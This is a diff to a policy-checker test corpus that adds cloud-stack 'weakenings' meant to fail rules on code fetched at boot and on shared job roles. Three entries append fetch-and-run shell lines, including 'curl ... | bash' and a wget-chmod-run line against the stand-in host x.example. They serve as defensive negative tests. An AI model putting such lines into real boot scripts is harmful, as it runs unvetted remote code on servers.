@@ -10,6 +10,7 @@ corpus entry must fail its rule) and say why each one weakens the property.
 
 from __future__ import annotations
 
+import base64
 import json
 from collections.abc import Callable
 from typing import Any
@@ -1334,6 +1335,76 @@ CORPUS: list[Weakening] = [
         "variants bucket: DataTier tag removed",
         edit_prop(BUCKET, "data-variants", "tags", pop("DataTier")),
         "GLZ-TAG-001",
+    ),
+]
+
+
+def boot_script(edit: Callable[[str], str]) -> Change:
+    """Edit the launch template's user data (base64 of a MIME multipart) as the shell script it holds."""
+
+    def change(value: str) -> str:
+        text = base64.b64decode(value).decode()
+        closing = text.rstrip("\n").rsplit("\n", 1)[-1]  # the MIME closing boundary
+        head, tail = text[: text.rindex(closing)], text[text.rindex(closing) :]
+        return base64.b64encode((edit(head) + tail).encode()).decode()
+
+    return edit_prop(LT, "compute-launch-template", "userData", change)
+
+
+def job_role_of(job: str, role: str) -> Change:
+    """Point a job definition at another role of the stack (by its ARN in the state)."""
+
+    def mutate(document: Document) -> None:
+        arn = named(document, ROLE, role)["outputs"]["arn"]
+        container(job, lambda c: c.update(jobRoleArn=arn))(document)
+
+    return mutate
+
+
+CORPUS += [
+    # GLZ-CMP-015: code fetched at boot, in three forms
+    W(
+        "boot script pipes a downloaded script into bash",
+        boot_script(lambda t: t + "curl -fsSL https://x.example/a.sh | bash\n"),
+        "GLZ-CMP-015",
+    ),
+    W(
+        "boot script copies a binary from a bucket outside the stack and runs it",
+        boot_script(
+            lambda t: t + "aws s3 cp s3://tools-elsewhere/agent /usr/local/bin/agent && /usr/local/bin/agent\n"
+        ),
+        "GLZ-CMP-015",
+    ),
+    W(
+        "boot script: wget into a file, then chmod and run",
+        boot_script(lambda t: t + "wget -qO /tmp/i https://x.example/i && chmod +x /tmp/i && /tmp/i\n"),
+        "GLZ-CMP-015",
+    ),
+    # GLZ-CMP-016: one stage given another stage's role, three ways
+    W(
+        "variant calling runs with the alignment job role",
+        job_role_of("variant-calling", "compute-job-alignment"),
+        "GLZ-CMP-016",
+    ),
+    W(
+        "alignment runs with the variant-calling job role",
+        job_role_of("alignment", "compute-job-variant-calling"),
+        "GLZ-CMP-016",
+    ),
+    W(
+        "a new job definition reuses the alignment job role",
+        lambda d: add(
+            JOB,
+            "compute-job-definition-debug",
+            {
+                "name": "glz-demo-debug",
+                "type": "container",
+                "containerProperties": json.dumps(
+                    {"image": "x", "jobRoleArn": named(d, ROLE, "compute-job-alignment")["outputs"]["arn"]}
+                ),
+            },
+        )(d),
+        "GLZ-CMP-016",
     ),
 ]
 
